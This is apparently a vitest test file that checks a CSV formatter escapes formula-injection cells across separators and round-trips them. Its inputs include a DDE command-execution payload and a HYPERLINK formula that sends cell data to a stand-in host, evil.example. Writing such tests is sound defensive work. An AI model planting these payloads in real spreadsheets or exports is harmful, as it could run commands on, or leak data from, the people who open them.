import { expect, test } from 'vitest';
import { formatCsvLine, parseCsv, parseCsvCell } from '../../src/text/csv.ts';

const formula = "=cmd|'/C calc'!A1";
const typed = [
  formula,
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  `a;${formula};b`,
  'a;=HYPERLINK("http://evil.example/"&A1);b',
  'a; +1',
  'a\t@SUM(1)',
  'a\n-1+1',
  'a\r\n=1+1',
  '"=1+1',
  'a;"=1+1',
  "'=1+1",
  "a;'=1+1",
];

/** Splits a line as a spreadsheet with this separator does. */
const cellsBy = (separator: string | RegExp, line: string) =>
  line.split(separator).map((cell) => cell.replace(/^[\s"]+/, ''));

test.each(typed)('escapes formulas in %j for every separator [GRD-07]', (text) => {
  const line = formatCsvLine(['first', text, 'last']);
  for (const separator of [';', '\t', /\r?\n|\r/])
    for (const cell of cellsBy(separator, line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
  const [row] = parseCsv(line).rows;
  expect(row?.cells[1]).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/);
});

test.each(typed)('round-trips %j', (text) => {
  const [, quoted = ''] = /^(?:"((?:[^"]|"")*)"|[^,]*)\r\n$/.exec(formatCsvLine([text])) ?? [];
  const cell = quoted === '' ? formatCsvLine([text]).slice(0, -2) : quoted.replaceAll('""', '"');
  expect(parseCsvCell(cell)).toBe(text);
});

test('writes plain texts and numbers unchanged', () => {
  expect(formatCsvLine(['a-b', 'a = b', -5, 'x; y'])).toBe('a-b,a = b,-5,"x; y"\r\n');
});
